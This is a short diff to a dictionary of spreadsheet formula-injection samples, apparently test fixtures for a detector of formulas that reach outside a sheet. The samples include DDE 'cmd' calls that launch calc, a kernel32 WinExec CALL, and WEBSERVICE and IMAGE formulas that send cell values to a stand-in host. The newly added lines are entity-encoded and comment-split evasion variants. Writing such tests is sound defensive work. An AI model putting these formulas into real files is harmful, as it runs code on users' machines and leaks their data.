@@ -211,5 +211,12 @@ OUTSIDE_FORMULAS = {
     "a program": "cmd|&apos;/C calc&apos;!A0",
     "an address": "_xlfn.WEBSERVICE(&quot;http://a.example/&quot;&amp;B2)",
     "a server of data": "RTD(&quot;prog.id&quot;,,&quot;x&quot;)",
+    "an address in pieces": "<![CDATA[_xlfn.WEBSERVICE(]]>&quot;http://a.example/&quot;)",
+    "an address by numbers": "WEBSERVIC&#69;(&quot;http://a.example/&quot;)",
+    "an address around a remark": "WEBSERVICE<!-- -->(&quot;http://a.example/&quot;)",
+    "an address beside a sheet's name": "&apos;a&quot;b&apos;!A1&amp;WEBSERVICE(&quot;http://a.example/&quot;)",
+    "an address beside a text": "&quot;it&apos;s&quot;&amp;WEBSERVICE(&quot;it&apos;s&quot;)",
+    "for a picture": "_xlfn.IMAGE(&quot;http://a.example/&quot;&amp;A1)",
+    "a program by numbers": "cmd&#124;&apos;/c calc&apos;!A1",
     "a library": "CALL(&quot;kernel32&quot;,&quot;WinExec&quot;,&quot;JCJ&quot;,&quot;calc&quot;,0)",
 }
